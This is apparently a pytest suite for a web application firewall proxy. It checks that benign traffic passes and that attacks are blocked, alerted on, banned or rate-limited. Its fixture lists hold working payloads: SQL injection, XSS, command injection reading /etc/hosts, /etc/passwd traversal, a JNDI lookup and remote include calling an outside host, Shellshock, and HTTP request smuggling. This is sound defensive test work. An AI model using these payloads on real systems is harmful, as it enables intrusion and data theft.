"""The CNAF proxy on real loopback sockets in front of a real app (uvicorn)."""

from __future__ import annotations

import hashlib
import http.client
import json
import re
import socket
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from websockets.sync.client import connect as ws_connect

from garrison.policy.cnaf import ATTACK_CLASSES, CnafControls, CnafEffect, CnafException, RateLimit
from tests.cnaf.conftest import ProxyHandle

ALL_PREVENT: dict[str, CnafEffect] = dict.fromkeys(ATTACK_CLASSES, "prevent")
ALL_ALERT: dict[str, CnafEffect] = dict.fromkeys(ATTACK_CLASSES, "alert")

# (class, method, target, extra headers, body, content-type)
ATTACKS: list[tuple[str, str, str, dict[str, str], bytes, str]] = [
    ("sqli", "GET", "/items?id=" + quote("1' OR '1'='1"), {}, b"", ""),
    ("sqli", "POST", "/login", {}, b"user=admin%27--&pass=x", "application/x-www-form-urlencoded"),
    ("xss", "GET", "/search?q=" + quote(quote("<script>alert(1)</script>")), {}, b"", ""),
    (
        "xss",
        "POST",
        "/comment",
        {},
        json.dumps({"c": "<img src=x onerror=alert(1)>"}).encode(),
        "application/json",
    ),
    ("cmdi", "GET", "/ping?host=" + quote("127.0.0.1; cat /etc/hosts"), {}, b"", ""),
    ("lfi", "GET", "/view?file=" + quote("....//....//etc/passwd"), {}, b"", ""),
    ("lfi", "GET", "/static/%2e%2e/%2e%2e/etc/passwd", {}, b"", ""),
    ("rfi", "GET", "/index.php?page=" + quote("http://198.51.100.7/shell.txt?"), {}, b"", ""),
    ("code_injection", "GET", "/", {"X-Api-Version": "${jndi:ldap://198.51.100.7/a}"}, b"", ""),
    (
        "code_injection",
        "GET",
        "/hello?name=" + quote("{{config.__class__.__init__.__globals__}}"),
        {},
        b"",
        "",
    ),
    ("shellshock", "GET", "/cgi-bin/status", {"User-Agent": "() { :; }; /bin/bash -c 'id'"}, b"", ""),
    ("attack_tools", "GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, b"", ""),
    (
        "session_fixation",
        "GET",
        "/login?PHPSESSID=5c0ffee1d&next=/",
        {"Referer": "https://evil.example/x"},
        b"",
        "",
    ),
    (
        "session_fixation",
        "POST",
        "/auth",
        {},
        b"user=a&laravel_session=eyJpdiI6",
        "application/x-www-form-urlencoded",
    ),
]


def request(
    port: int,
    method: str,
    target: str,
    headers: dict[str, str] | None = None,
    body: bytes | None = None,
    conn: http.client.HTTPConnection | None = None,
) -> tuple[int, dict[str, str], bytes]:
    c = conn or http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    c.request(method, target, body=body, headers=headers or {})
    r = c.getresponse()
    data = r.read()
    if conn is None:
        c.close()
    return r.status, {k.lower(): v for k, v in r.getheaders()}, data


def raw(port: int, payload: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(payload)
        s.shutdown(socket.SHUT_WR)
        out = b""
        while chunk := s.recv(65536):
            out += chunk
    return out


def attack_headers(extra: dict[str, str], ctype: str) -> dict[str, str]:
    h = dict(extra)
    if ctype:
        h["Content-Type"] = ctype
    return h


# -- benign traffic ------------------------------------------------------------------------------------


def test_keep_alive_benign_requests_reach_the_app(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy()
    conn = http.client.HTTPConnection("127.0.0.1", p.port, timeout=10)
    status, _, _ = request(p.port, "GET", "/a?x=1", conn=conn)
    sock = conn.sock
    for i in range(5):
        status, _, body = request(p.port, "GET", f"/a?i={i}", conn=conn)
        assert status == 200
        assert json.loads(body)["query"] == f"i={i}"
    assert conn.sock is sock, "the proxy must keep the client connection alive"
    conn.close()
    assert p.events == []


TRICKY_BENIGN: list[tuple[str, str, bytes, str]] = [
    ("GET", "/people?name=" + quote("O'Brien") + "&city=" + quote("Coeur d'Alene"), b"", ""),
    (
        "POST",
        "/signup",
        b"plan=" + quote("select a plan").encode() + b"&note=Tom+%26+Jerry",
        "application/x-www-form-urlencoded",
    ),
    (
        "POST",
        "/docs/snippets",
        json.dumps(
            {
                "title": "Loops in JavaScript",
                "snippet": "for (let i = 0; i < items.length; i++) {\n  total += items[i].price * qty;\n}\n"
                "console.log(`Total: ${total}`);",
                "python": "def greet(name):\n    return f\"Hello, {name}!\"\n\nprint(greet('world'))",
                "sql": "SELECT id, name FROM users WHERE plan = 'pro' ORDER BY name;",
                "template": "<p>{{ user.name }}</p>",
            }
        ).encode(),
        "application/json",
    ),
    ("GET", "/search?q=" + quote('"rock and roll" or "jazz"') + "&sizes=4+or+5", b"", ""),
    ("GET", "/go?next=" + quote("https://example.com/welcome?ref=mail"), b"", ""),
    (
        "POST",
        "/profile",
        b"bio=I+love+cats%3B+dogs+are+fine+too.+Email+me%40example.com",
        "application/x-www-form-urlencoded",
    ),
]


@pytest.mark.parametrize(("method", "target", "body", "ctype"), TRICKY_BENIGN)
def test_tricky_benign_is_untouched(
    make_proxy: Callable[..., ProxyHandle], method: str, target: str, body: bytes, ctype: str
) -> None:
    # The CNAF's own detectors pass all of these. With the OWASP CRS rules on (the default), the code
    # snippets of a docs app are flagged as CRS flags them (docs/cnaf.md: such apps need exceptions).
    code_snippets = target == "/docs/snippets"
    p = make_proxy(CnafControls(effects=ALL_PREVENT, crs={"enabled": not code_snippets}))
    status, _, data = request(p.port, method, target, {"Content-Type": ctype} if ctype else {}, body or None)
    assert status == 200, data
    echoed = json.loads(data)
    assert echoed["body_sha256"] == hashlib.sha256(body).hexdigest()
    assert p.events == []


def test_session_id_from_the_apps_own_pages_passes(make_proxy: Callable[..., ProxyHandle]) -> None:
    # a session id in the URL is fixation only when the link came from elsewhere (or from nowhere)
    p = make_proxy()
    own = {"Referer": "http://127.0.0.1/account", "Host": "127.0.0.1"}
    assert request(p.port, "GET", "/login;x?jsessionid=ab12&next=/", own)[0] == 200
    sub = {"Referer": "https://www.shop.example/cart", "Host": "shop.example"}
    assert request(p.port, "GET", "/login?jsessionid=ab12", sub)[0] == 200
    assert request(p.port, "GET", "/search?session=winter+sale&sid_filter=1")[0] == 200
    assert p.events == []


def test_client_half_close_still_gets_its_answers(make_proxy: Callable[..., ProxyHandle]) -> None:
    # a client may shutdown(SHUT_WR) right after its last request (nc -N, some HTTP/1.0 clients)
    p = make_proxy()
    one = b"GET /a?n=1 HTTP/1.1\r\nHost: x\r\n\r\n"
    out = raw(p.port, one + b"GET /a?n=2 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert out.count(b"HTTP/1.1 200") == 2 and b'"n=1"' in out and b'"n=2"' in out
    out = raw(p.port, b"POST /f HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc")
    assert out.startswith(b"HTTP/1.1 200")


def test_chunked_upload_and_chunked_response(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy()
    parts = [b"alpha " * 1000, b"beta " * 3000, b"gamma"]
    conn = http.client.HTTPConnection("127.0.0.1", p.port, timeout=10)
    conn.request(
        "POST", "/upload", body=iter(parts), headers={"Content-Type": "text/plain"}, encode_chunked=True
    )
    r = conn.getresponse()
    doc = json.loads(r.read())
    assert r.status == 200
    assert doc["body_len"] == sum(map(len, parts))
    assert doc["body_sha256"] == hashlib.sha256(b"".join(parts)).hexdigest()
    status, headers, data = request(p.port, "GET", "/stream", conn=conn)
    assert status == 200 and headers.get("transfer-encoding") == "chunked"
    assert data == b"".join(b"part%d\n" % i for i in range(5))
    conn.close()


def test_big_upload_is_streamed_past_the_inspection_bound(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy(CnafControls(effects=ALL_PREVENT, max_body_inspect_bytes=64 * 1024))
    big = bytes(range(256)) * (32 * 1024)  # 8 MiB of binary
    status, _, data = request(p.port, "POST", "/upload", {"Content-Type": "application/octet-stream"}, big)
    assert status == 200
    doc = json.loads(data)
    assert doc["body_len"] == len(big)
    assert doc["body_sha256"] == hashlib.sha256(big).hexdigest()
    # an attack inside the inspected prefix of a big form is still caught
    form = b"q=" + quote("' UNION SELECT password FROM users--").encode() + b"&pad=" + b"x" * (2 << 20)
    status, _, _ = request(p.port, "POST", "/f", {"Content-Type": "application/x-www-form-urlencoded"}, form)
    assert status == 403


def test_expect_continue_and_head(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy()
    body = b"name=plain+text"
    with socket.create_connection(("127.0.0.1", p.port), timeout=10) as s:
        s.sendall(
            b"POST /e HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: %d\r\nExpect: 100-continue\r\n\r\n" % len(body)
        )
        assert s.recv(100).startswith(b"HTTP/1.1 100 Continue")
        s.sendall(body)
        f = s.makefile("rb")
        assert f.readline().startswith(b"HTTP/1.1 200")
    conn = http.client.HTTPConnection("127.0.0.1", p.port, timeout=10)
    conn.request("HEAD", "/h")
    r = conn.getresponse()
    r.read()
    assert r.status == 200
    status, _, _ = request(p.port, "GET", "/after-head", conn=conn)
    assert status == 200
    conn.close()


def test_websocket_passes_through(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy()
    with ws_connect(f"ws://127.0.0.1:{p.port}/ws", open_timeout=10) as ws:
        for msg in ("hello", "' OR 1=1 --", "x" * 100_000):
            ws.send(msg)
            assert ws.recv(timeout=10) == "echo:" + msg


def test_no_policy_passes_everything(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy(no_policy=True)
    status, _, _ = request(p.port, "GET", "/items?id=" + quote("1' OR '1'='1"))
    assert status == 200
    assert p.events == []


# -- attacks -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("cls", "method", "target", "headers", "body", "ctype"), ATTACKS)
def test_each_class_is_prevented(
    make_proxy: Callable[..., ProxyHandle],
    cls: str,
    method: str,
    target: str,
    headers: dict[str, str],
    body: bytes,
    ctype: str,
) -> None:
    p = make_proxy()
    status, h, data = request(p.port, method, target, attack_headers(headers, ctype), body or None)
    assert status == 403
    eid = h["x-garrison-event-id"]
    assert eid.encode() in data
    ev = next(e for e in p.events if e.id == eid)
    assert ev.type == "cnaf" and ev.effect == "prevent" and ev.control == cls
    assert ev.extra["field"] and ev.extra["value"] and ev.extra["request_line"].startswith(method)
    assert isinstance(ev.extra["headers"], dict)


@pytest.mark.parametrize(("cls", "method", "target", "headers", "body", "ctype"), ATTACKS)
def test_each_class_is_alerted(
    make_proxy: Callable[..., ProxyHandle],
    cls: str,
    method: str,
    target: str,
    headers: dict[str, str],
    body: bytes,
    ctype: str,
) -> None:
    p = make_proxy(CnafControls(effects=ALL_ALERT))
    status, _, _ = request(p.port, method, target, attack_headers(headers, ctype), body or None)
    assert status == 200
    assert any(e.control == cls and e.effect == "alert" for e in p.events)


def test_disabled_class_is_not_reported(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy(CnafControls(effects={**ALL_PREVENT, "sqli": "disable"}))
    status, _, _ = request(p.port, "GET", "/items?id=" + quote("1' OR '1'='1"))
    assert status == 200
    assert p.events == []


SMUGGLING = [
    (
        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
        400,
        "Content-Length and Transfer-Encoding",
    ),
    (
        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
        400,
        "duplicate Content-Length",
    ),
    (b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n", 400, "chunk"),
    (
        b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        400,
        "Transfer-Encoding",
    ),
    (b"GET / HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 20000 + b"\r\n\r\n", 431, "too large"),
]


@pytest.mark.parametrize(("payload", "status", "reason"), SMUGGLING)
def test_smuggling_and_malformed_requests_are_refused(
    make_proxy: Callable[..., ProxyHandle], payload: bytes, status: int, reason: str
) -> None:
    p = make_proxy()
    out = raw(p.port, payload)
    assert out.startswith(b"HTTP/1.1 %d" % status), out[:200]
    assert out.count(b"HTTP/1.1 ") == 1, "nothing may reach the app after a refused request"
    assert [e.control for e in p.events] == ["protocol"]
    assert reason.lower() in p.events[0].message.lower()


def test_ban_uses_first_trusted_forwarded_hop(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy(
        CnafControls(effects={**ALL_PREVENT, "sqli": "ban"}, trust_x_forwarded_for=True, ban_duration_s=1)
    )
    attacker = {"X-Forwarded-For": "203.0.113.7, 10.0.0.1"}
    other = {"X-Forwarded-For": "198.51.100.20, 10.0.0.1"}
    status, _, _ = request(p.port, "GET", "/items?id=" + quote("1 UNION SELECT 1,2--"), attacker)
    assert status == 403
    ban = [e for e in p.events if e.effect == "ban"]
    assert ban and ban[0].extra["client_ip"] == "203.0.113.7"
    assert request(p.port, "GET", "/benign", attacker)[0] == 403
    assert request(p.port, "GET", "/benign", other)[0] == 200
    time.sleep(1.2)  # the ban has a 1 s duration
    assert request(p.port, "GET", "/benign", attacker)[0] == 200


def test_untrusted_forwarded_header_is_ignored_for_bans(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy(CnafControls(effects={**ALL_PREVENT, "xss": "ban"}, trust_x_forwarded_for=False))
    status, _, _ = request(p.port, "GET", "/q?x=%3Cscript%3E", {"X-Forwarded-For": "203.0.113.9"})
    assert status == 403
    assert p.events[0].extra["client_ip"] == "127.0.0.1"
    # the peer (127.0.0.1) is banned whatever header it sends
    assert request(p.port, "GET", "/benign", {"X-Forwarded-For": "198.51.100.1"})[0] == 403


def test_rate_limit_returns_429_per_client(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy(
        CnafControls(
            effects=ALL_PREVENT, trust_x_forwarded_for=True, rate_limit=RateLimit(burst=5, average=1)
        )
    )
    a = {"X-Forwarded-For": "192.0.2.1"}
    statuses = [request(p.port, "GET", f"/r{i}", a)[0] for i in range(8)]
    assert statuses[:5] == [200] * 5
    assert 429 in statuses[5:]
    assert request(p.port, "GET", "/r", {"X-Forwarded-For": "192.0.2.2"})[0] == 200
    rl = [e for e in p.events if e.control == "rate_limit"]
    assert len(rl) == 1 and rl[0].effect == "prevent"


def test_exceptions_per_path_and_param(make_proxy: Callable[..., ProxyHandle]) -> None:
    # the CNAF's own detectors; how exceptions act on CRS scores is in test_crs.py
    p = make_proxy(
        CnafControls(
            effects=ALL_PREVENT,
            exceptions=[CnafException(path="/docs/*", param="snippet", attack="xss")],
            crs={"enabled": False},
        )
    )
    payload: dict[str, Any] = {"snippet": '<button onclick="save()">Save</button>'}
    hdr = {"Content-Type": "application/json"}
    assert request(p.port, "POST", "/docs/page", hdr, json.dumps(payload).encode())[0] == 200
    assert request(p.port, "POST", "/blog/page", hdr, json.dumps(payload).encode())[0] == 403
    other = {"title": '<button onclick="save()">Save</button>'}
    assert request(p.port, "POST", "/docs/page", hdr, json.dumps(other).encode())[0] == 403


def test_policy_change_applies_to_the_next_request(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy(CnafControls(effects=ALL_ALERT))
    target = "/items?id=" + quote("1; DROP TABLE users")
    assert request(p.port, "GET", target)[0] == 200
    p.set(CnafControls(effects=ALL_PREVENT))
    assert request(p.port, "GET", target)[0] == 403


def test_pipelined_requests_are_answered_in_order(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy()
    benign = b"GET /first HTTP/1.1\r\nHost: x\r\n\r\n"
    attack = b"GET /second?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: x\r\n\r\n"
    out = raw(p.port, benign + benign.replace(b"first", b"again") + attack + benign)
    statuses = re.findall(rb"HTTP/1\.1 (\d{3}) ", out)
    assert statuses == [b"200", b"200", b"403"], out[:500]
    assert b'"/first"' in out and b'"/again"' in out


def test_unreachable_app_gives_502(make_proxy: Callable[..., ProxyHandle], backend: Any) -> None:
    import asyncio

    from garrison.cnaf.proxy import serve

    with socket.socket() as s:  # a port with nothing listening
        s.bind(("127.0.0.1", 0))
        dead = s.getsockname()[1]

    async def run() -> bytes:
        proxy = await serve("127.0.0.1", 0, "127.0.0.1", dead, lambda: CnafControls(), lambda e: None)
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", proxy.port)
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            data = await asyncio.wait_for(reader.read(), 10)
            writer.close()
            return data
        finally:
            proxy.close()
            await proxy.wait_closed()

    assert asyncio.run(run()).startswith(b"HTTP/1.1 502")


def test_blocked_large_upload_is_answered_not_reset(make_proxy: Callable[..., ProxyHandle]) -> None:
    """A request blocked after the inspected prefix still gets its 403 while the client keeps sending."""
    p = make_proxy(CnafControls(effects=ALL_PREVENT, max_body_inspect_bytes=4096))
    body = b"q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=" + b"x" * (4 << 20)
    status, _, _ = request(p.port, "POST", "/f", {"Content-Type": "application/x-www-form-urlencoded"}, body)
    assert status == 403


def test_slow_request_head_gets_408(make_proxy: Callable[..., ProxyHandle]) -> None:
    import asyncio

    from garrison.cnaf.proxy import HEAD_TIMEOUT_S

    p = make_proxy()

    async def sweep_in_the_future() -> int:
        assert p.proxy is not None
        conns = list(p.proxy.connections)
        for c in conns:
            c.sweep(c.loop.time() + HEAD_TIMEOUT_S + 1)  # as the periodic sweeper will, later
        return len(conns)

    with socket.create_connection(("127.0.0.1", p.port), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")  # the head never ends
        for _ in range(100):
            assert p.loop is not None
            if asyncio.run_coroutine_threadsafe(sweep_in_the_future(), p.loop).result(5):
                break
            time.sleep(0.02)
        data = s.recv(1000)
    assert data.startswith(b"HTTP/1.1 408")


GARBAGE = [
    b"\x00\x01\x02\xff" * 100,
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET /\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nBad Header\r\n\r\n",
    b"\r\n\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\nabc",  # body never completes
]


def test_garbage_never_breaks_the_proxy(make_proxy: Callable[..., ProxyHandle]) -> None:
    p = make_proxy()
    for payload in GARBAGE:
        out = raw(p.port, payload)
        assert out == b"" or out.startswith(b"HTTP/1.1 "), (payload, out[:100])
    status, _, _ = request(p.port, "GET", "/still-alive")
    assert status == 200


def test_protocol_violation_the_parser_accepts_follows_the_effect(
    make_proxy: Callable[..., ProxyHandle],
) -> None:
    payload = b"GET /dup HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\nConnection: close\r\n\r\n"
    p = make_proxy(CnafControls(effects={**ALL_PREVENT, "protocol": "alert"}))
    out = raw(p.port, payload)
    assert not out.startswith(b"HTTP/1.1 403")
    assert [(e.control, e.effect) for e in p.events] == [("protocol", "alert")]
    assert "duplicate Host" in p.events[0].message
    p = make_proxy(CnafControls(effects=ALL_PREVENT))
    assert raw(p.port, payload).startswith(b"HTTP/1.1 403")
